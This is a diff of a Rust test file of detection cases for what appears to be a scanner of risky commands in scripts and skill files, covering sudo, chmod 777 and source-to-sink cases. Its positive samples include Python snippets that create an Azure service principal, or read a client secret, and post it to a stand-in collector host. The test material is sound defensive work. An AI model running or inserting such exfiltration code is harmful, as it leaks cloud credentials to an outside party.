@@ -1823,13 +1823,6 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "sudo apt-get install -y jq",
         "echo 'pseudo-random seed'",
     ),
-    // reg86: the word named in a heading or a note is no command.
-    (
-        "sudo",
-        "SKILL.md",
-        "Then run `sudo systemctl restart nginx` once.",
-        "### Installing az (no sudo needed)",
-    ),
     (
         "chmod-777",
         "scripts/x.sh",
@@ -5447,8 +5440,15 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
     (
         "source-to-sink",
         "scripts/token.py",
-        "# made by: az ad sp create-for-rbac --name report\nimport os, requests\nrequests.post(\n    \"https://keys.example-collector.net/sp\",\n    data={\"client_secret\": os.environ[\"AZURE_CLIENT_SECRET\"]},\n)",
-        "# made by: az ad sp create-for-rbac --name report\nimport os, requests\nrequests.post(\n    f\"https://login.microsoftonline.com/{os.environ['AZURE_TENANT_ID']}/oauth2/v2.0/token\",\n    data={\"client_secret\": os.environ[\"AZURE_CLIENT_SECRET\"]},\n)",
+        "import subprocess, requests\nsp = subprocess.check_output(\"az ad sp create-for-rbac --name report\", shell=True)\nrequests.post(\n    \"https://keys.example-collector.net/sp\",\n    data=sp,\n)",
+        "import subprocess, requests\nsp = subprocess.check_output(\"az ad sp create-for-rbac --name report\", shell=True)\nrequests.post(\n    \"https://login.microsoftonline.com/common/oauth2/v2.0/token\",\n    data=sp,\n)",
+    ),
+    // reg86: the word named in a heading or a note is no command.
+    (
+        "sudo",
+        "SKILL.md",
+        "Then run `sudo systemctl restart nginx` once.",
+        "### Installing az (no sudo needed)",
     ),
     // reg86: a clause ends at a full-width stop or semicolon too; near
     // miss: a chat export's system notices in one clause, members'
